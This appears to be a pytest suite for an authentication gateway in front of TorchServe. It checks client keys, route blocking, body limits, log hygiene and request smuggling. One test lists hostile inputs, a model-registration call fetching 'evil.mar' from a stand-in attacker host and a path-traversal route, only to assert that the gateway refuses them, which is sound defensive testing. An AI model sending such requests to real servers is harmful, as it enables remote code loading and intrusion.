"""deploy/gateway.py in front of a real TorchServe: client keys from a Secret file, inference only."""

from __future__ import annotations

import threading

import pytest
import requests

from deploy.client import read_keys
from deploy.gateway import GatewayConfig, make_server
from training.catalog import CATALOG

CLIENT_KEYS = ["current-client-key", "next-client-key"]  # two lines: a rotation in progress
MAX_BODY = 64 * 1024


@pytest.fixture(scope="module")
def gateway(server, tmp_path_factory):
    keys_file = tmp_path_factory.mktemp("secret") / "client-keys"
    keys_file.write_text("\n".join(CLIENT_KEYS) + "\n")
    config = GatewayConfig(keys_file, server.inference_url, server.key_file, MAX_BODY)
    gateway_server = make_server("127.0.0.1:0", config)
    thread = threading.Thread(target=gateway_server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{gateway_server.server_address[1]}"
    gateway_server.shutdown()
    gateway_server.server_close()


def post(url: str, body: bytes, key: str | None) -> requests.Response:
    headers = {"Authorization": f"Bearer {key}"} if key is not None else {}
    return requests.post(url, data=body, headers=headers, timeout=30)


@pytest.mark.parametrize("key", CLIENT_KEYS)
def test_client_key_gets_the_answer_torchserve_gives_directly(gateway, client, key):
    for model in CATALOG:
        body = CATALOG[model].heldout_requests(1)[0].body
        through_gateway = post(f"{gateway}/predictions/{model}", body, key)
        assert through_gateway.status_code == 200, through_gateway.text
        assert through_gateway.json() == client.predict(model, data=body).json()


@pytest.mark.parametrize("key", [None, "", "wrong-key", "current-client-key-and-more"])
def test_missing_or_wrong_client_key_is_refused_with_401(gateway, key):
    model = next(iter(CATALOG))
    response = post(f"{gateway}/predictions/{model}", CATALOG[model].heldout_requests(1)[0].body, key)
    assert response.status_code == 401
    assert "key" in response.json()["message"]


def test_torchserves_own_pod_key_is_not_a_client_key(gateway, server):
    model = next(iter(CATALOG))
    pod_key = read_keys(server.key_file)["inference"]
    body = CATALOG[model].heldout_requests(1)[0].body
    assert post(f"{gateway}/predictions/{model}", body, pod_key).status_code == 401


@pytest.mark.parametrize("method, path", [("GET", "/models"), ("GET", "/models/mnist"),
                                          ("POST", "/models?url=http://attacker.example/evil.mar"),
                                          ("GET", "/metrics"), ("POST", "/token?type=inference"),
                                          ("POST", "/predictions/../models")])
def test_management_and_other_routes_are_never_forwarded(gateway, method, path):
    response = requests.request(method, gateway + path, headers={"Authorization": f"Bearer {CLIENT_KEYS[0]}"},
                                timeout=30)
    assert response.status_code == 404
    assert "not served here" in response.json()["message"]


def test_oversized_body_is_refused_with_413_before_reaching_torchserve(gateway):
    model = next(iter(CATALOG))
    response = post(f"{gateway}/predictions/{model}", b"\0" * (MAX_BODY + 1), CLIENT_KEYS[0])
    assert response.status_code == 413
    assert str(MAX_BODY) in response.json()["message"]


def test_ping_needs_no_key(gateway):
    response = requests.get(f"{gateway}/ping", timeout=30)
    assert response.status_code == 200
    assert response.json()["status"] == "Healthy"


def test_gateway_logs_never_hold_a_key(gateway, caplog):
    model = next(iter(CATALOG))
    with caplog.at_level("INFO", logger="gateway"):
        post(f"{gateway}/predictions/{model}", CATALOG[model].heldout_requests(1)[0].body, CLIENT_KEYS[0])
        post(f"{gateway}/predictions/{model}", CATALOG[model].heldout_requests(1)[0].body, "wrong-key")
    assert caplog.records, "the gateway logged no access line"
    assert not any(key in caplog.text for key in [*CLIENT_KEYS, "wrong-key"])


def test_a_refused_request_body_is_never_read_as_the_next_request(gateway):
    model = next(iter(CATALOG))
    body = CATALOG[model].heldout_requests(1)[0].body
    with requests.Session() as session:  # keep-alive: both requests may share one connection
        refused = session.post(f"{gateway}/predictions/{model}", data=body,
                               headers={"Authorization": "Bearer wrong-key"}, timeout=30)
        accepted = session.post(f"{gateway}/predictions/{model}", data=body,
                                headers={"Authorization": f"Bearer {CLIENT_KEYS[0]}"}, timeout=30)
    assert (refused.status_code, accepted.status_code) == (401, 200), accepted.text
